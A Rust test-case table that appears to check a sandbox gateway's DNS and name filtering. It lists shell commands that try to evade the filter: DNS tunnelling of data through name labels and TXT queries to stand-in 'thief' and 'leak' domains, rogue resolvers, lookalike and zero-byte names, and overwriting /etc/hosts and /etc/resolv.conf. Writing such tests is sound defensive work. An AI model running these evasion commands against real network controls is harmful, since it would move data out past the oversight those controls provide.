//! Names: resolvers, tunnels through questions, spellings.

use super::case::{Case, case};

const KNOWN: &str = r#""$a" dns "$GATEWAY" friend.test A"#;

pub(super) const CASES: &[Case] = &[
    case("another resolver by datagrams", r#""$a" dns "$THIEF" friend.test A"#, KNOWN),
    case(
        "another resolver by TCP",
        r#""$a" dns "$THIEF" friend.test A tcp"#,
        r#""$a" dns "$GATEWAY" friend.test A tcp"#,
    ),
    case(
        "the engine's resolver",
        r#""$a" dns 127.0.0.11 thief.test A || "$a" dns 127.0.0.11 outside.example A || "$a" dns 127.0.0.11 friend.test TXT"#,
        KNOWN,
    ),
    case(
        "resolvers of the host and of networks",
        r#"for to in $BRIDGES "${SUBNET%.*}.1" 127.0.0.53 127.0.0.1; do "$a" dns "$to" outside.example A & all+=($!); done; won"#,
        KNOWN,
    ),
    case(
        "a resolver over TLS",
        r#"shake "$GATEWAY:853" thief.test || shake "$THIEF:853" friend.test"#,
        r#"shake "$GATEWAY:443" friend.test"#,
    ),
    case(
        "a resolver over HTTPS, by its name and by its address",
        r#"browse -k "https://dns.test/dns-query?name=thief.test" | grep -q internet || browse -k "https://$THIEF/dns-query?dns=AAAB" | grep -q internet"#,
        r#"browse "https://friend.test/dns-query?name=thief.test" | grep -q internet"#,
    ),
    case("a name that is denied", r#""$a" dns "$GATEWAY" thief.test A || "$a" dns "$GATEWAY" thief.test A tcp"#, KNOWN),
    case(
        "a name below one that is allowed, but not its wildcard",
        r#""$a" dns "$GATEWAY" thief.friend.test A"#,
        r#""$a" dns "$GATEWAY" any.wild.test A"#,
    ),
    case(
        "a name that ends like one that is allowed",
        r#""$a" dns "$GATEWAY" notfriend.test A || "$a" dns "$GATEWAY" friend.test.thief.test A || "$a" dns "$GATEWAY" wild.test A"#,
        KNOWN,
    ),
    case("text records of a name that is denied", r#""$a" dns "$GATEWAY" aGVsbG8.thief.test TXT"#, KNOWN),
    case(
        "text records of a name that is allowed",
        r#""$a" dns "$GATEWAY" friend.test TXT || "$a" dns "$GATEWAY" aGVsbG8.wild.test TXT tcp"#,
        KNOWN,
    ),
    case(
        "every other kind of record",
        r#"for kind in NS CNAME NULL MX SRV HTTPS ANY AXFR AAAA 64 249; do "$a" dns "$GATEWAY" friend.test "$kind" tcp && exit 0; done; false"#,
        r#""$a" dns "$GATEWAY" friend.test A tcp"#,
    ),
    case(
        "data in the labels of a name that is denied",
        r#"for at in 1 2 3 4 5 6 7 8; do "$a" dns "$GATEWAY" "$at-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb.thief.test" A && exit 0; done; false"#,
        KNOWN,
    ),
    case(
        "data in the labels below a wildcard, told to its owner's server",
        // Whatever is answered, nobody outside is asked: the recorder sees it if somebody is.
        r#"for at in 1 2 3 4 5 6 7 8; do "$a" dns "$GATEWAY" "data-$at.leak.test" A; done; "$a" dns "$GATEWAY" data.leak.test TXT"#,
        r#""$a" dns "$GATEWAY" data.wild.test A"#,
    ),
    case(
        "a question with its answer reversed",
        r#""$a" dns "$GATEWAY" "$(tac -s. <<<"$THIEF." | tr -d '\n')in-addr.arpa" PTR"#,
        KNOWN,
    ),
    case(
        "questions that are no questions",
        r#""$a" udp "$GATEWAY" 53 '\x2a\x17\x01\x00\x00\x05\x00\x00\x00\x00\x00\x00\xc0\x0c\x00\x01' | grep -q '[4-9][0-9] bytes' || "$a" udp "$GATEWAY" 53 '\x00'"#,
        KNOWN,
    ),
    case(
        "a name with a zero byte",
        r#""$a" dns "$GATEWAY" 'thief.test\0.friend.test' A || "$a" dns "$GATEWAY" 'friend.test\0.thief.test' A"#,
        KNOWN,
    ),
    case(
        "another spelling of a name that is denied",
        r#""$a" dns "$GATEWAY" THIEF.TEST A || "$a" dns "$GATEWAY" DENIED.Wild.Test A || web "$GATEWAY" THIEF.TEST || web "$GATEWAY" thief.test."#,
        r#""$a" dns "$GATEWAY" FRIEND.TEST A && web "$GATEWAY" FRIEND.TEST"#,
    ),
    case(
        "a name with letters that look alike",
        r#"web "$GATEWAY" 'fr\xd1\x96end.test' || web "$GATEWAY" xn--frend-2nf.test || web "$GATEWAY" 'friend\xe3\x80\x82thief\xe3\x80\x82test' || "$a" own xn--frend-2nf.test"#,
        r#"web "$GATEWAY" friend.test"#,
    ),
    case(
        "a denied name below an allowed wildcard",
        r#"web "$GATEWAY" denied.wild.test || "$a" own denied.wild.test"#,
        r#"web "$GATEWAY" any.wild.test"#,
    ),
    case(
        "datagrams to everybody on the network",
        r#""$a" udp 224.0.0.251 5353 hello || "$a" udp 224.0.0.252 5355 hello || "$a" udp 255.255.255.255 67 hello"#,
        KNOWN,
    ),
    case(
        "a name put into the sandbox's own table",
        r#"echo "$THIEF table.wild.test" >>/etc/hosts; browse -m 2 http://table.wild.test/ | grep -q internet || browse -m 2 --resolve "friend.test:80:$THIEF" http://friend.test/ | grep -q internet"#,
        r#"curl -sS -m 5 http://friend.test/ | grep -q internet"#,
    ),
    case(
        "another resolver in place of the gateway",
        r#"echo "nameserver $THIEF" >/etc/resolv.conf || mv /etc/resolv.conf /etc/resolv.old || ln -sf "$PWD/resolv.conf" /etc/resolv.conf"#,
        r#"grep -q "$GATEWAY" /etc/resolv.conf"#,
    ),
];
